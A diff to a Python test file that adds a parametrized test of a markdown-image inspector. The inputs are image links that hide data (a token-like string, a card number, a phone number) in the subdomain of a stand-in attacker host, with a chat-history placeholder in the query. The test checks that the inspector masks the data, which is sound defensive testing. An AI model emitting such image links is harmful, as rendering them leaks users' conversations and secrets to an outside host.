@@ -86,3 +86,8 @@ def test_time_is_linear(part: str) -> None:
     began = time.process_time()
     inspected("![p](https://a.example/p.png) " + part * (1_000_000 // len(part)))
     assert time.process_time() - began < 4
+
+
+@pytest.mark.parametrize("label", [SAID[:24].encode().hex(), "4111111111111111", "2125550123", "ghp-0123456789abcdef0123456789abcdef0123"])
+def test_a_host_that_carries_data_does_not_tell_it(label: str) -> None:
+    assert inspected(f"![p](https://{label}.c.evil.example/p.png?q={{history}})")["hosts"] == ["*.c.evil.example"]
